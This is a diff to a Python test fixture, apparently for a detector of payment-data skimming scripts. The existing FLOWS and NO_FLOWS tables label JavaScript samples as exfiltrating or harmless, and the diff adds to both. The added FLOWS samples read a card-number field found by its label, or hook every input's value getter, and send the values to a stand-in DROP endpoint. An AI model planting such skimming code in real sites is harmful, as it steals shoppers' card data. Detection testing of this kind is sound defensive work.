@@ -118,6 +118,17 @@ FLOWS = {
         "var out = {};\n"
         "$$('input[name^=payment]').each(function (el) { out[el.name] = el.getValue(); });\n"
         f"new Image().src = '{DROP}?' + $H(out).toQueryString();"),
+    "a card field found by the text of its label": (
+        "function byLabel(re) { for (const label of document.querySelectorAll('label')) {\n"
+        "  if (re.test(label.textContent)) return label.control.value; } return ''; }\n"
+        f"navigator.sendBeacon('{DROP}', byLabel(/card\\s*number/i));"),
+    "every field's value accessor hooked": (
+        "var proto = window.HTMLInputElement && window.HTMLInputElement.prototype;\n"
+        "var nativeGet = Object.getOwnPropertyDescriptor(proto, 'value').get; var seen = [];\n"
+        "function getter() { var v = nativeGet.call(this); seen.push(v); return v; }\n"
+        "Object.defineProperty(proto, 'value', {configurable: true, get: getter});\n"
+        f"setTimeout(function () {{ fetch('{DROP}', {{method: 'POST', "
+        f"body: JSON.stringify(seen)}}); }}, 3000);"),
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
@@ -160,6 +171,9 @@ NO_FLOWS = {
                         "var ch = pc.createDataChannel('chat');\n"
                         "var n = document.querySelector('#cc_number').value.length;\n"
                         "ch.send(document.querySelector('#chat-message').value);",
+    "a mask list handed to a helper": (
+        "function masked(re) { return document.querySelector('#cc_number').value.length; }\n"
+        f"navigator.sendBeacon('{DROP}', String(masked(/cc-|card|cvv|pass|ssn/)));"),
     "negated": "var n = document.querySelector('#cc_number').value;\n"
                f"navigator.sendBeacon('{DROP}', JSON.stringify({{filled: !!n, t: typeof n}}));",
     # Two libraries of one vendor bundle, each in its own wrapper: the card library's own
